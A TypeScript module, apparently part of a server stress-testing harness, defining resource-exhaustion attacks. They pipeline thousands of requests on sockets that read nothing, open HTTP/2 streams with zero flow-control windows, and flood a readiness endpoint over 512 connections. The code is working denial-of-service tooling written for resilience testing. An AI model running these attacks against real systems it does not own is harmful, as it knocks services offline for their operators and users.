import type { Attack } from "../attack.ts";
import { atOnce, Span } from "../wire/pace.ts";
import { openHttp2, callBlock, streamFrames } from "../wire/http2.ts";
import { openRead, openUnread, readAtLast, request } from "../wire/http1.ts";

const bundle = "/debug/api/swagger-ui-bundle.js";

/** Pipelines requests on connections of which nothing is read until the end. */
async function pipelineUnread(
  ...[target, tally, connections, requests]: [
    ...Parameters<Attack["run"]>,
    number,
    Buffer,
  ]
): Promise<undefined> {
  const span = new Span(target);
  const sockets = await atOnce(connections, () => openUnread(target, tally));
  for (const socket of sockets) {
    socket.write(requests);
  }
  await span.rest();
  await readAtLast(sockets);
}

export const unreadPages: Attack = {
  name: "unread-pages",
  what: "400 pipelined requests for a script of 1.7 MB on each of 6 connections that read nothing.",
  run: (target, tally) => {
    const asked = Buffer.concat(Array(400).fill(request("GET", bundle)));
    return pipelineUnread(target, tally, 6, asked);
  },
};

export const unreadCompressedPages: Attack = {
  name: "unread-compressed-pages",
  what: "The same for the compressed script, with gzip and Brotli by turns.",
  run: (target, tally) => {
    const encodings = ["gzip", "br", "gzip, br;q=0.5"];
    const asked = encodings.map((encoding) =>
      request("GET", bundle, { "accept-encoding": encoding }),
    );
    const all = Buffer.concat(Array(130).fill(Buffer.concat(asked)));
    return pipelineUnread(target, tally, 6, all);
  },
};

export const unreadErrors: Attack = {
  name: "unread-errors",
  what: "10,000 pipelined requests for what is not there on each of 20 connections that read nothing.",
  run: (target, tally) => {
    const asked = Buffer.concat(Array(10_000).fill(request("GET", "/nothing")));
    return pipelineUnread(target, tally, 20, asked);
  },
};

export const unreadPageStreams: Attack = {
  name: "unread-page-streams",
  what: "100 streams for the script on each of 40 HTTP/2 connections with windows of 0.",
  run: async (target, tally) => {
    const span = new Span(target);
    const block = callBlock(bundle, {}, "GET");
    await atOnce(40, async () => {
      const connection = await openHttp2(target, tally, { window: 0 });
      for (let count = 0; count < 100; count += 1) {
        connection.write(streamFrames(connection.next(), block, undefined));
      }
    });
    await span.rest();
    return undefined;
  },
};

export const readiness: Attack = {
  name: "readiness",
  what: "GET /debug/ready on 512 connections, again and again.",
  run: async (target, tally) => {
    const span = new Span(target);
    const asked = request("GET", "/debug/ready");
    await atOnce(512, async () => {
      const socket = await openRead(target, tally);
      socket.on("data", () => {
        if (!span.over && socket.writable) {
          socket.write(asked);
        }
      });
      socket.write(asked);
    });
    await span.rest();
    return undefined;
  },
};
